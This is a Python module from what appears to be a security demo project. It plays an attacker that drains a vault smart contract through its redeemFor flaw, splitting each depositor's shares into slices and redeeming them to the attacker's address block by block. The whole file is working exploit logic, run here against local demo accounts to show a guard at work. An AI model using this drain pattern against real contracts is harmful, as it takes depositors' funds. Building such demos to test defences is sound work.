"""The demo's attacker: drains the vault through its redeemFor flaw, a slice of a depositor's shares per block."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

from web3 import AsyncWeb3
from web3.logs import DISCARD

from onguard.demo.world import Roles, World, artifact, dev_account

ATTACK_GAS = 300_000  # fixed, so that a refused attempt is still mined (and visible) instead of failing estimation


@dataclass(frozen=True, slots=True)
class AttackStep:
    victim: str
    shares: int


@dataclass(frozen=True, slots=True)
class AttackOutcome:
    step: AttackStep
    tx_hash: str
    block: int
    succeeded: bool
    assets_taken: int


def drain_plan(w3_shares: dict[str, int], slices_per_victim: int = 4) -> list[AttackStep]:
    """Slices every victim's shares into equal parts, victim after victim."""
    steps = []
    for victim, shares in w3_shares.items():
        part = shares // slices_per_victim
        steps += [AttackStep(victim, part) for _ in range(slices_per_victim - 1)]
        steps.append(AttackStep(victim, shares - part * (slices_per_victim - 1)))
    return steps


class Attacker:
    def __init__(self, w3: AsyncWeb3, world: World) -> None:
        self.w3 = w3
        self.address = dev_account(Roles.ATTACKER).address
        self.vault = w3.eth.contract(address=world.vault, abi=artifact("Vault")["abi"])

    async def shares_of(self, holder: str) -> int:
        return int(await self.vault.functions.balanceOf(holder).call())

    async def redeem_for(self, step: AttackStep) -> AttackOutcome:
        call = self.vault.functions.redeemFor(step.victim, self.address, step.shares)
        tx_hash = await call.transact({"from": self.address, "gas": ATTACK_GAS})
        receipt: Any = await self.w3.eth.wait_for_transaction_receipt(tx_hash, timeout=30, poll_latency=0.05)
        taken = 0
        if receipt["status"] == 1:
            for event in self.vault.events.Withdraw().process_receipt(receipt, errors=DISCARD):
                taken += int(event["args"]["assets"])
        return AttackOutcome(step=step, tx_hash=tx_hash.to_0x_hex(), block=int(receipt["blockNumber"]),
                             succeeded=receipt["status"] == 1, assets_taken=taken)
